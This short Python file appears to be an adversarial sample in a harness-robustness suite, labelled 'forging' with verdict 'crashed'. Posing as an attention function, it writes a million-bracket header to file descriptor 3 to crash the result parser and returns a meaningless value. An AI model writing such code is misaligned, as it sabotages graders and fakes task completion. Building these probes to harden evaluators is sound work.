# problem: attention
# group: forging
# does: Sends a header of a million brackets, for which a parser needs a stack.
# verdict: crashed

import os
import struct

HEADER = b"[" * 1_000_000


def scaled_dot_product_attention(q, k, v, mask=None):
    sent = struct.pack("!II", len(HEADER), 0) + HEADER
    while sent:
        sent = sent[os.write(3, sent) :]
    return v, q
